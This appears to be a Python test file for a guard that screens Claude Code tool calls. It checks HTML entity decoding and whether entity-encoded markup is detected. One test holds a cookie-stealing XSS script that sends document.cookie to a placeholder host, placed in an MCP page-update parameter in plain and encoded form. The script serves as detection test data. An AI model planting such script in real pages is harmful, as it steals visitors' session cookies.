"""HTML character references are decoded in parameters, so hidden markup is still seen."""

from __future__ import annotations

import html
import random

from guard.decide import run_payload
from guard.config.load import Config
from guard.editors import claude_code
from guard.engine.entities import unescape


def test_agrees_with_the_standard_library_on_numeric_and_common_named_references() -> None:
    rng = random.Random(5)
    for _ in range(500):
        parts = []
        for _ in range(rng.randint(1, 8)):
            ch = chr(rng.choice([60, 62, 38, 34, 39, 47, 58, 97, 0x3C, 0x2F]))
            parts.append(rng.choice([ch, f"&#{ord(ch)};", f"&#x{ord(ch):x};", {"<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;"}.get(ch, ch)]))
        s = "".join(parts)
        assert unescape(s, rounds=1) == html.unescape(s)


def test_double_encoding_and_plain_text() -> None:
    assert unescape("&amp;lt;script&amp;gt;") == "<script>"
    assert unescape("fish & chips; salt") == "fish & chips; salt"


def test_entity_encoded_xss_in_an_mcp_parameter_is_seen(tmp_path) -> None:
    payload = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"body": "&#x3C;script&#x3E;fetch('https://x.example/?c='+document.cookie)&#x3C;/script&#x3E;"}}
    plain = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"body": "<script>fetch('https://x.example/?c='+document.cookie)</script>"}}
    assert run_payload(claude_code, plain, Config())[1].decision != "allow"
    assert run_payload(claude_code, payload, Config())[1].decision != "allow"
